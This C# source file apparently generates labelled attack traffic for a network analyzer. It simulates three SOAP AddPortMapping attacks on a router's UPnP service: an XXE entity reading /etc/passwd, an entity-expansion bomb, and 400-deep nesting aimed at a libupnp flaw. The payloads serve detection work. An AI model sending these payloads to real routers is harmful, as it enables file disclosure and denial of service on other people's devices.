using System.Text;
using Analyzer.Labels;
using Analyzer.Generation.Messages;

namespace Analyzer.Generation.Scenarios;

/// <summary>
/// XML attacks on the IGD's SOAP parser, which never needs a DTD: an external entity that reads a local file (XXE),
/// an entity-expansion bomb, and elements nested 400 deep (libupnp's recursive free, CVE-2021-28302).
/// </summary>
public sealed class SoapXxeDoctypeScenario : AttackScenario
{
    public override string Name => "soap-xxe-doctype";
    public override string Description => "attack: SOAP bodies with DOCTYPE/ENTITY (XXE, entity bomb) and 400-deep nesting";
    public override string Category => LabelNames.ExploitAttempt;

    public override long Attack(ScenarioContext ctx, long t)
    {
        var net = ctx.Network;
        var random = ctx.Random;
        var attacker = net.WindowsPc.Host;
        var router = net.RouterLan.Ipv4;
        var igd = new IgdClient(ctx, attacker.V4, AttackTools.PythonRequests, ctx.Variation.ScriptHttp, ctx.Variation.ScriptSoap);
        string service = net.Igd.ServiceType;
        string envelopeStart = $"<s:Envelope xmlns:s=\"{SoapMessages.EnvelopeNamespace}\" s:encodingStyle=\"{SoapMessages.EncodingStyle}\">" +
            $"<s:Body><u:AddPortMapping xmlns:u=\"{service}\">";
        const string envelopeEnd = "</u:AddPortMapping></s:Body></s:Envelope>\r\n";

        string xxe = "<?xml version=\"1.0\"?>\r\n<!DOCTYPE foo [ <!ELEMENT foo ANY > <!ENTITY xxe SYSTEM \"file:///etc/passwd\" > ]>\r\n" + envelopeStart +
            "<NewRemoteHost></NewRemoteHost><NewExternalPort>8080</NewExternalPort><NewProtocol>TCP</NewProtocol>" +
            $"<NewInternalPort>8080</NewInternalPort><NewInternalClient>{attacker.Ipv4}</NewInternalClient><NewEnabled>1</NewEnabled>" +
            "<NewPortMappingDescription>&xxe;</NewPortMappingDescription><NewLeaseDuration>0</NewLeaseDuration>" + envelopeEnd;

        var bomb = new StringBuilder("<?xml version=\"1.0\"?>\r\n<!DOCTYPE lolz [\r\n<!ENTITY lol \"lol\">\r\n");
        bomb.Append("<!ENTITY lol1 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">\r\n");
        for (int i = 2; i <= 9; i++)
            bomb.Append($"<!ENTITY lol{i} \"").Append(string.Concat(Enumerable.Repeat($"&lol{i - 1};", 10))).Append("\">\r\n");
        bomb.Append("]>\r\n").Append(envelopeStart).Append("<NewPortMappingDescription>&lol9;</NewPortMappingDescription>").Append(envelopeEnd);

        var deep = new StringBuilder("<?xml version=\"1.0\"?>\r\n").Append(envelopeStart);
        for (int i = 0; i < 400; i++) deep.Append("<a>");
        for (int i = 0; i < 400; i++) deep.Append("</a>");
        deep.Append(envelopeEnd);

        var probes = new (string Body, HttpEnding Ending, string Detail)[]
        {
            (xxe, HttpEnding.ServerCloses, "external entity file:///etc/passwd"),
            (bomb.ToString(), HttpEnding.ServerCloses, "entity expansion bomb, 10^9 expansions"),
            (deep.ToString(), HttpEnding.ServerResets, "elements nested 400 deep"),
        };
        foreach (var probe in probes)
        {
            long at = t + random.Next(500_000, 2_000_000);
            // The daemon finds no usable arguments: 402 Invalid Args, or no answer when the nesting kills it.
            (t, _) = igd.Raw(at, "AddPortMapping", [], probe.Body, null, probe.Ending);
            ctx.Mark(LabelNames.ExploitAttempt, "soap-xml-xxe-bomb", attacker.Ipv4, router, at, t, probe.Detail);
        }
        return t;
    }
}
